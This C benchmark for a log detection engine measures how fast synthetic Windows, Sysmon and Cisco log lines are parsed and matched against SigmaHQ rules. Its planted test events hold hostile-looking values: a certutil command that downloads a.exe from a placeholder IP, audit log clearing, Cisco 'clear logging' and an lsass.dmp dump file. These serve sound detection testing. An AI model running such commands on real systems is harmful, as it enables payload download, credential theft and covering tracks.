/*
 * bench/rules_lanes.c - detection on the workloads that another engine publishes figures for.
 *
 *     rules-lanes
 *
 * rsigma (github.com/timescale/rsigma) measures its engine on SigmaHQ's rules/ and four kinds of
 * JSON lines that its BENCHMARKS.md describes: Windows event text of about 2.4 KB in one
 * `message`, flat JSON as Sysmon's fields, Cisco's records of commands in one `message`, Sysmon's
 * file events with the number as text. The lines here are of these kinds but our own, from a fixed
 * seed: 10,000 a lane, ten times. As there, a lane is read as JSON and matched on one core, and
 * loading the rules does not count. One line in a hundred is one that some rule must find; the
 * figures are printed only when every one of these was found, and of all lines of the lane none
 * went unread. Ends in one line.
 */
#include <stdio.h>
#include <stdlib.h>

#include "base/time.h"
#include "detect/detect.h"
#include "parse/parse.h"

enum { LINES = 10 * 1000, ROUNDS = 10, PLANTED_EACH = 100, HITS_MAX = 64, RAW_SIZE = 2400 };

struct lane {
    const char *name, *key;
    void (*line)(struct mm_buf *out, uint64_t *io_seed, bool planted);
};

static uint64_t next(uint64_t *io)
{
    *io ^= *io << 13; /* xorshift64 */
    *io ^= *io >> 7;
    *io ^= *io << 17;
    return *io;
}

static const char *one_of(uint64_t *io, const char *const *list, size_t n)
{
    return list[next(io) % n];
}

#define ONE_OF(io, list) one_of(io, list, MM_COUNT(list))

static const char *const programs[] = {
    "C:\\\\Windows\\\\System32\\\\svchost.exe",    "C:\\\\Windows\\\\explorer.exe",
    "C:\\\\Program Files\\\\Kaikei\\\\kaikei.exe", "C:\\\\Windows\\\\System32\\\\taskhostw.exe",
    "C:\\\\Program Files\\\\Cad\\\\cad7.exe",      "C:\\\\Windows\\\\System32\\\\RuntimeBroker.exe",
    "C:\\\\Windows\\\\System32\\\\spoolsv.exe",    "C:\\\\Program Files\\\\Mail\\\\mail.exe",
};
static const char *const options[] = {
    "-k netsvcs -p", "/factory,{75dff2b7}", "--type=renderer --lang=ja",
    "-Embedding",    "--year 2026 --open",  "/print /quiet",
};
static const char *const people[] = {"sato", "suzuki", "tanaka", "SYSTEM", "ito", "backup"};

/* Text as an agent sends it on, in one field. */
static void raw_windows(struct mm_buf *out, uint64_t *io, bool planted)
{
    const char *who = ONE_OF(io, people);
    size_t from = out->n;
    unsigned pc = (unsigned)(next(io) % 200);

    mm_buf_fmt(out,
               "{\"message\":\"<13>Nov 20 13:%02u:%02u PC-%03u MSWinEventLog\\t1\\tSecurity\\t%u"
               "\\tFri Nov 20 13:00:00 2026\\t%s\\t%s\\t%s\\tUser\\tSuccess Audit\\tPC-%03u\\t%s\\t"
               "\\t%s Subject: Account Name: %s Process: %s %s",
               (unsigned)(next(io) % 60), (unsigned)(next(io) % 60), pc,
               (unsigned)(next(io) % 100000), planted ? "1102" : "4688",
               planted ? "Microsoft-Windows-Eventlog" : "Microsoft-Windows-Security-Auditing", who,
               pc, planted ? "Log clear" : "Process Creation",
               planted ? "The audit log was cleared." : "A new process has been created.", who,
               ONE_OF(io, programs), ONE_OF(io, options));
    while (out->n - from < RAW_SIZE)
        mm_buf_fmt(out, " Attribute %llu: %llx", (unsigned long long)(next(io) % 1000),
                   (unsigned long long)next(io));
    mm_buf_str(out, "\\t77\"}");
}

static void structured_windows(struct mm_buf *out, uint64_t *io, bool planted)
{
    const char *image =
        planted ? "C:\\\\Windows\\\\System32\\\\certutil.exe" : ONE_OF(io, programs);

    mm_buf_fmt(
        out,
        "{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Provider_Name\":"
        "\"Microsoft-Windows-Sysmon\",\"EventID\":1,\"Computer\":\"PC-%03u\",\"UtcTime\":"
        "\"2026-11-20 04:%02u:00.000\",\"ProcessId\":%u,\"Image\":\"%s\",\"OriginalFileName\":"
        "\"%s\",\"CommandLine\":\"%s %s\",",
        (unsigned)(next(io) % 200), (unsigned)(next(io) % 60), (unsigned)(next(io) % 60000), image,
        planted ? "CertUtil.exe" : "program.exe", image,
        planted ? "-urlcache -split -f http://192.0.2.66/a.exe" : ONE_OF(io, options));
    mm_buf_fmt(out,
               "\"CurrentDirectory\":\"C:\\\\Users\\\\%s\\\\\",\"User\":\"ACME\\\\%s\",\"LogonId\":"
               "\"0x%x\",\"IntegrityLevel\":\"Medium\",\"Hashes\":\"SHA256=%016llX%016llX\","
               "\"ParentImage\":\"%s\",\"ParentCommandLine\":\"%s %s\"}",
               ONE_OF(io, people), ONE_OF(io, people), (unsigned)(next(io) % 0x7fffffff),
               (unsigned long long)next(io), (unsigned long long)next(io), ONE_OF(io, programs),
               ONE_OF(io, programs), ONE_OF(io, options));
}

static void cisco_commands(struct mm_buf *out, uint64_t *io, bool planted)
{
    static const char *const commands[] = {
        "show version",
        "show ip interface brief",
        "interface GigabitEthernet0/1",
        "description kojo2",
        "write memory",
        "show processes cpu",
    };

    mm_buf_fmt(out,
               "{\"message\":\"<189>%u: Nov 20 13:%02u:%02u.%03u: %%PARSER-5-CFGLOG_LOGGEDCMD: "
               "User:%s  logged command:%s\",\"product\":\"cisco\",\"service\":\"aaa\"}",
               (unsigned)(next(io) % 100000), (unsigned)(next(io) % 60), (unsigned)(next(io) % 60),
               (unsigned)(next(io) % 1000), ONE_OF(io, people),
               planted ? "clear logging" : ONE_OF(io, commands));
}

static void file_events(struct mm_buf *out, uint64_t *io, bool planted)
{
    static const char *const names[] = {"mitsumori.xlsx", "zumen-12.dwg", "~tmp0.tmp", "cache.db"};

    mm_buf_fmt(
        out,
        "{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Provider_Name\":"
        "\"Microsoft-Windows-Sysmon\",\"EventID\":\"11\",\"product\":\"windows\",\"category\":"
        "\"file_event\",\"Computer\":\"PC-%03u\",\"UtcTime\":\"2026-11-20 04:%02u:00.000\","
        "\"ProcessId\":%u,\"Image\":\"%s\",\"TargetFilename\":"
        "\"C:\\\\Users\\\\%s\\\\Documents\\\\%u\\\\%s\",\"User\":\"ACME\\\\%s\"}",
        (unsigned)(next(io) % 200), (unsigned)(next(io) % 60), (unsigned)(next(io) % 60000),
        ONE_OF(io, programs), ONE_OF(io, people), (unsigned)(next(io) % 1000),
        planted ? "lsass.dmp" : ONE_OF(io, names), ONE_OF(io, people));
}

static const struct lane lanes[] = {
    {"Windows text", "raw", raw_windows},
    {"Windows as Sysmon", "structured", structured_windows},
    {"Cisco commands", "cisco", cisco_commands},
    {"Sysmon file events", "files", file_events},
};

static int64_t cpu_us(void)
{
    struct timespec t;

    (void)clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t);
    return t.tv_sec * MM_US_PER_S + t.tv_nsec / 1000;
}

struct bench {
    struct mm_formats *formats;
    struct mm_scratch *scratch;
    struct mm_arena arena;
    struct mm_event ev;
    struct mm_matcher *matcher;
    struct mm_buf text;
    struct mm_slice line[LINES];
    size_t unread, missed, planted;
    uint64_t hits;
    int64_t parse_us, match_us;
};

static void write_lines(struct bench *b, const struct lane *l)
{
    uint64_t seed = UINT64_C(0x9e3779b97f4a7c15);
    size_t end[LINES];

    mm_buf_reset(&b->text);
    for (size_t i = 0; i < LINES; i++) {
        l->line(&b->text, &seed, i % PLANTED_EACH == 0);
        end[i] = b->text.n;
    }
    if (!mm_buf_ok(&b->text))
        exit(1);
    for (size_t i = 0; i < LINES; i++)
        b->line[i] =
            mm_slice_of(b->text.p + (i == 0 ? 0 : end[i - 1]), end[i] - (i == 0 ? 0 : end[i - 1]));
}

static void ask(struct bench *b, size_t i)
{
    struct mm_hint hint = {.format = MM_FORMAT_NONE, .offset_s = MM_PARSE_JST_S};
    struct mm_raw raw = {.body = b->line[i], .received_us = INT64_C(1795147800000000)};
    int64_t began = cpu_us(), parsed;
    uint32_t hits[HITS_MAX];
    size_t n;

    mm_arena_reset(&b->arena);
    mm_parse(b->formats, b->scratch, &b->arena, &raw, &hint, &b->ev);
    parsed = cpu_us();
    n = mm_rules_match(b->matcher, &b->ev, hits, HITS_MAX);
    b->match_us += cpu_us() - parsed;
    b->parse_us += parsed - began;
    b->hits += n;
    b->unread += (b->ev.flags & MM_EV_UNPARSED) != 0;
    if (i % PLANTED_EACH != 0)
        return;
    b->planted++;
    b->missed += n == 0;
}

/* Events a second on one core, read and matched. */
static double lane(struct bench *b, const struct lane *l)
{
    const double n = (double)LINES * ROUNDS;

    write_lines(b, l);
    b->unread = b->missed = b->planted = 0;
    b->hits = 0;
    b->parse_us = b->match_us = 0;
    for (size_t round = 0; round < ROUNDS; round++) {
        for (size_t i = 0; i < LINES; i++)
            ask(b, i);
    }
    printf("%s: %.0f events of %.0f bytes, %.0f /s read and matched, %.0f /s matched; %llu "
           "matches, %zu of %zu planted ones found, %zu not read\n",
           l->name, n, (double)b->text.n / LINES, 1e6 * n / (double)(b->parse_us + b->match_us),
           1e6 * n / (double)b->match_us, (unsigned long long)b->hits, b->planted - b->missed,
           b->planted, b->unread);
    if (b->missed > 0 || b->unread > 0)
        exit(1);
    return 1e6 * n / (double)(b->parse_us + b->match_us);
}

static struct mm_ruleset *load_sigma(void)
{
    const char *corpora = getenv("MIMAMORI_CORPORA"), *list[1];
    char path[MM_MAX_PATH];
    struct mm_ruleset *set = NULL;

    if (corpora == NULL)
        return NULL;
    (void)snprintf(path, sizeof(path), "%s/sigma/rules", corpora);
    list[0] = path;
    return mm_rules_load(list, 1, NULL, &set, NULL) == MM_OK ? set : NULL;
}

int main(void)
{
    struct mm_ruleset *set = load_sigma();
    struct mm_format_errors errors = {0};
    struct bench *b = calloc(1, sizeof(*b));
    double per_s[MM_COUNT(lanes)];

    if (b == NULL)
        return 1;
    if (set == NULL) {
        puts("rules-lanes: skipped, no corpus");
        free(b);
        return 0;
    }
    b->formats = mm_formats_new();
    b->scratch = mm_scratch_new();
    b->matcher = mm_matcher_new(set);
    mm_arena_init(&b->arena, 64 * 1024 * 1024);
    mm_buf_init(&b->text, (size_t)LINES * RAW_SIZE * 2);
    if (b->formats == NULL || b->scratch == NULL || b->matcher == NULL ||
        mm_formats_load(b->formats, MM_SOURCE_DIR "/content/formats", &errors) != MM_OK)
        return 1;
    for (size_t i = 0; i < MM_COUNT(lanes); i++)
        per_s[i] = lane(b, &lanes[i]);
    printf("rules-lanes:");
    for (size_t i = 0; i < MM_COUNT(lanes); i++)
        printf(" %s %.0f%s", lanes[i].key, per_s[i], i + 1 < MM_COUNT(lanes) ? "," : "");
    printf(" events/s/core read and matched, %zu rules of SigmaHQ\n", mm_rules_count(set));
    mm_matcher_free(&b->matcher);
    mm_rules_unref(&set);
    mm_buf_done(&b->text);
    mm_arena_done(&b->arena);
    mm_scratch_free(&b->scratch);
    mm_formats_free(&b->formats);
    free(b);
    return 0;
}
